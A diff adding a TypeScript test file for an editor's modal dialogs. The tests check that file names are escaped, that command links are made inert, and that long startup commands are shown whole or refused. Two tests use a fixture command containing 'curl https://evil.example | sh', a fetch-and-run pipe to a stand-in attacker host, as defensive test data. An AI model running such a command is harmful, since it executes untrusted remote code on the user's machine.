@@ -1,0 +1,104 @@
+// A modal question names everything that it must: whole, one line each, counted where it is a list, or it is not asked.
+import assert from "node:assert/strict";
+import { afterEach, beforeEach, describe, it } from "mocha";
+import { CancelledError } from "../../../../src/core/errors/cancelledError";
+import { visibleLine } from "../../../../src/core/text/inertText";
+import { ask, confirm, paragraphs, showValue } from "../../../../src/editor/shown/questions";
+import { differenceLine } from "../../../../src/features/apps/settings/settingSentences";
+import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
+
+const refused = /^Error: Nothing was done: the question about it is too long to be shown whole/;
+
+describe("a modal question", () => {
+  let window: AskedWindow;
+  beforeEach(() => {
+    window = askedWindow();
+  });
+  afterEach(() => window.restore());
+
+  it("does nothing unless its button is pressed", async () => {
+    const question = async () => await confirm("Upload to Shop?", ["/home/me/a", "To Shop"], "Upload");
+    await assert.rejects(question(), CancelledError);
+    assert.deepEqual(window.asked, [
+      { text: "Upload to Shop?", lines: ["/home/me/a", "To Shop"], buttons: ["Upload"] },
+    ]);
+    window.answer = "Upload";
+    await question();
+  });
+
+  it("answers with the button as the caller named it", async () => {
+    window.answer = "Push to $\u200b(flame)";
+    assert.equal(await ask("Push?", [], ["Skip", "Push to $(flame)"]), "Push to $(flame)");
+    window.answer = undefined;
+    assert.equal(await ask("Push?", [], ["Skip"], "error"), undefined);
+  });
+
+  it("shows a line break, a tab and marks of direction in a name as their codes", async () => {
+    const name = "a.txt\nTo Shop of me\r\u2028b\tc\u202egnp.exe\u0000\u{e0041}\ud800";
+    await ask(`Delete ${name}?`, [name, { names: [name] }], []);
+    const [{ text, lines } = { text: "", lines: [] }] = window.asked;
+    const shown = "a.txt\\nTo Shop of me\\r\\u{2028}b\\tc\\u{202e}gnp.exe\\u{0}\\u{e0041}\\u{d800}";
+    assert.deepEqual([text, lines], [`Delete ${shown}?`, [shown, shown]]);
+  });
+
+  it("keeps letters that are joined, and makes no link and no icon of a name", () => {
+    assert.equal(visibleLine("👩‍👧 می‌خواهم"), "👩‍👧 می‌خواهم");
+    assert.equal(visibleLine("[run](command:x) $(flame)"), "[run]\u200b(command:x) $\u200b(flame)");
+  });
+
+  it("counts the names that it does not show", async () => {
+    const names = Array.from({ length: 13 }, (_, index) => `${index}.py`);
+    await ask("Push?", [{ names }], []);
+    await ask("Push?", [{ names: names.slice(0, 9) }], []);
+    await ask("Push?", [{ names: names.slice(0, 8) }], []);
+    const [many, nine, eight] = window.asked.map(({ lines }) => lines);
+    assert.deepEqual(many, [...names.slice(0, 8), "and 5 more"]);
+    assert.deepEqual(nine, [...names.slice(0, 8), "and 1 more"]);
+    assert.deepEqual(eight, names.slice(0, 8));
+  });
+
+  it("counts a name that is too long, and never cuts it", async () => {
+    const long = "x".repeat(1_001);
+    await ask("Push?", [{ names: [long, "b.py", long] }], []);
+    await ask("Push?", [{ names: [long] }], []);
+    assert.deepEqual(window.asked[0]?.lines, ["b.py", "and 2 more"]);
+    assert.deepEqual(window.asked[1]?.lines, ["1 whose names are too long to be shown"]);
+    await ask("Push?", [{ names: Array.from({ length: 8 }, () => "y".repeat(900)) }], []);
+    assert.deepEqual(window.asked[2]?.lines, ["y".repeat(900), "y".repeat(900), "and 6 more"]);
+  });
+
+  it("is refused where a line, a name that it must show or all of it does not fit", async () => {
+    const command = `python main.py ${"x".repeat(500)}; curl https://evil.example | sh; ${"y".repeat(500)}`;
+    const change = { key: "startupCommand", from: "", to: command, isConflict: false } as const;
+    const questions = [
+      ask("Change?", [differenceLine(change)], ["Change"]),
+      ask(command.repeat(2), [], ["Change"]),
+      ask("Push?", [{ names: ["x".repeat(1_001), "a"], mustShow: 1 }], ["Push"]),
+      ask("Push?", [{ names: Array.from({ length: 40 }, String), mustShow: 17 }], ["Push"]),
+      ask("Push?", Array.from({ length: 31 }, String), ["Push"]),
+      ask(
+        "Push?",
+        Array.from({ length: 6 }, () => "x".repeat(900)),
+        ["Push"],
+      ),
+    ];
+    for (const question of questions) await assert.rejects(question, refused);
+    assert.deepEqual(window.asked, []);
+  });
+
+  it("shows a start command whole that fits", async () => {
+    const command = `python main.py ${"x".repeat(400)}; curl https://evil.example | sh; ${"y".repeat(400)}`;
+    await ask(
+      "Change?",
+      [differenceLine({ key: "startupCommand", from: "", to: command, isConflict: false })],
+      [],
+    );
+    assert.ok(window.asked[0]?.lines[0]?.includes(command));
+  });
+
+  it("separates sentences by an empty line, and shows a value with its lines", async () => {
+    assert.deepEqual(paragraphs(["One.", "Two."]), ["One.", "", "Two."]);
+    await showValue("KEY", "a\nb", "Copy Value");
+    assert.deepEqual(window.asked, [{ text: "KEY", lines: ["a", "b"], buttons: ["Copy Value"] }]);
+  });
+});
